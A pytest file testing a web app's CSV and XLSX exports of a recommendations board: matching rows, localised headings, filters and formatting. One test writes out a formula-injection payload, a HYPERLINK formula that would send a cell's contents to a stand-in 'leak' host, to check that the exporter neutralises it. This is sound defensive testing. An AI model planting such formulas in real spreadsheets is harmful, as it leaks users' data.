"""The board as open data: every view of ``/recommendations`` downloads as CSV and XLSX with
exactly the board's rows, headings in the page's language beside the codes, and no cell that a
spreadsheet would run as a formula."""

from __future__ import annotations

import csv
from datetime import date
from io import BytesIO, StringIO
from urllib.parse import parse_qs, urlsplit

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

import web.page_data
from tests.web.test_pages import page, refs
from web.downloads import as_csv, as_xlsx

QUERIES = (
    "lang=en",
    "position=accepted",
    "position=awaiting_response&lang=nl",
    "overdue=1&lang=fr",
    "panel=1&implementation=not_started&verdict=none",
    "q=recommandation 3",
    "portfolio=housing",
    "at_seq=0",
    "late_at=1&lang=nl",
    "late_at=2",
    f"as_of={date.today().isoformat()}&position=awaiting_response",
)


def csv_rows(client: TestClient, query: str) -> list[list[str]]:
    response = client.get(f"/recommendations.csv?{query}")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.reader(StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(client: TestClient, query: str) -> list[list[object]]:
    response = client.get(f"/recommendations.xlsx?{query}")
    assert response.status_code == 200, response.text
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("query", QUERIES)
def test_the_csv_holds_exactly_the_rows_of_the_board_for_the_same_filters(
    client: TestClient, query: str
) -> None:
    board = refs(page(client, f"/recommendations?{query}"))
    found = csv_rows(client, query)
    assert len(found) - 1 == len(board)
    assert [row[0] for row in found[1:]] == board


@pytest.mark.parametrize("query", QUERIES)
def test_the_xlsx_holds_exactly_the_rows_of_the_board_for_the_same_filters(
    client: TestClient, query: str
) -> None:
    board = refs(page(client, f"/recommendations?{query}"))
    found = xlsx_rows(client, query)
    assert len(found) - 1 == len(board)
    assert [row[0] for row in found[1:]] == board


def test_the_download_names_its_columns_in_the_page_language_beside_the_codes(
    client: TestClient,
) -> None:
    french = csv_rows(client, "lang=fr&position=accepted")
    assert french[0][:4] == ["Référence", "Panel", "Numéro", "Titre"]
    row = dict(zip(french[0], french[1], strict=True))
    assert row["Position du gouvernement"] == "acceptée"
    assert row["Code de la position du gouvernement"] == "accepted"
    assert row["Code de la compétence"] == "climate"
    dutch = xlsx_rows(client, "lang=nl&position=accepted")
    assert dict(zip(dutch[0], dutch[1], strict=True))["Code van de uitvoering"] == "not_started"


def test_the_download_of_a_board_in_the_past_holds_what_the_board_held_then(
    client: TestClient,
) -> None:
    assert csv_rows(client, "as_of=2020-01-01")[1:] == []


def test_a_download_with_a_filter_the_board_refuses_is_the_same_400_page(
    client: TestClient,
) -> None:
    response = client.get("/recommendations.csv?position=maybe&lang=en")
    assert response.status_code == 400
    assert "maybe is not a known value for position." in response.text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(
    start: str,
) -> None:
    hostile = f'{start}HYPERLINK("http://example.invalid/?leak="&A1;"click")'
    table: list[list[str | date]] = [["Title", "Day"], [hostile, date(2026, 3, 31)]]
    written = list(csv.reader(StringIO(as_csv(table).decode("utf-8-sig"))))
    assert written[1] == ["'" + hostile, "2026-03-31"]
    sheet = load_workbook(BytesIO(as_xlsx(table))).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.data_type == "s"  # text, never a formula
    assert cell.value == "'" + hostile.replace("\r", "\n")  # XML reads a CR as a line feed
    assert sheet["B2"].value.date() == date(2026, 3, 31)


def test_a_cell_that_only_holds_a_formula_sign_inside_is_left_as_it_is() -> None:
    table: list[list[str | date]] = [["Title"], ["1 + 1 = 2"]]
    assert as_csv(table).decode("utf-8-sig").splitlines()[1] == "1 + 1 = 2"


def test_the_board_links_to_both_downloads_with_its_filters(client: TestClient) -> None:
    found = page(client, "/recommendations?lang=nl&position=accepted&overdue=1&at_seq=9")
    wanted = {"lang": ["nl"], "position": ["accepted"], "overdue": ["1"], "at_seq": ["9"]}
    for path in ("/recommendations.csv", "/recommendations.xlsx"):
        link = next(urlsplit(link) for link in found.links if link.startswith(path + "?"))
        assert parse_qs(link.query) == wanted


def test_a_download_holds_every_row_of_the_view_and_not_one_page_of_it(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(web.page_data, "PAGE_SIZE", 2)
    first = page(client, "/recommendations?lang=en&verdict=none")
    second = page(client, first.rels["next"])
    board = refs(first) + refs(second)
    assert len(refs(first)) == 2
    assert [row[0] for row in csv_rows(client, "lang=en&verdict=none")[1:]] == board
    assert [row[0] for row in xlsx_rows(client, "lang=en&verdict=none")[1:]] == board


def test_each_row_ends_with_the_address_of_its_page_in_the_language_and_at_the_point_asked(
    client: TestClient,
) -> None:
    found = csv_rows(client, "lang=nl&position=accepted&at_seq=999")
    assert found[0][-1] == "Webpagina"
    assert found[1][-1] == "http://testserver/recommendations/1/1?lang=nl&at_seq=999"


def test_the_workbook_headings_are_bold_and_stay_in_view() -> None:
    table: list[list[str | date]] = [["Title", "Day"], ["A title", date(2026, 3, 31)]]
    sheet = load_workbook(BytesIO(as_xlsx(table))).active
    assert sheet is not None
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
